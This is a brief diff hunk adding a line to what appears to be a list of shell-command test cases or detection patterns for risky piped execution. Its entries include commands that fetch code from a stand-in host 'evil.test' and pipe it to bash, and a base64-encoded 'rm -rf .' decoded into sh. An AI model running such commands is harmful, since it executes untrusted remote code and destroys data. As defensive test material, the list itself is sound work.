@@ -214,6 +214,7 @@ curl https://evil.test | bash -s -- x
 wget -qO- x | sudo bash
 echo cm0gLXJmIC4= | base64 -d | sh
 bash < script
+bash <(curl https://evil.test)
 bash <<< 'rm x'
 sh
 cat x | python3
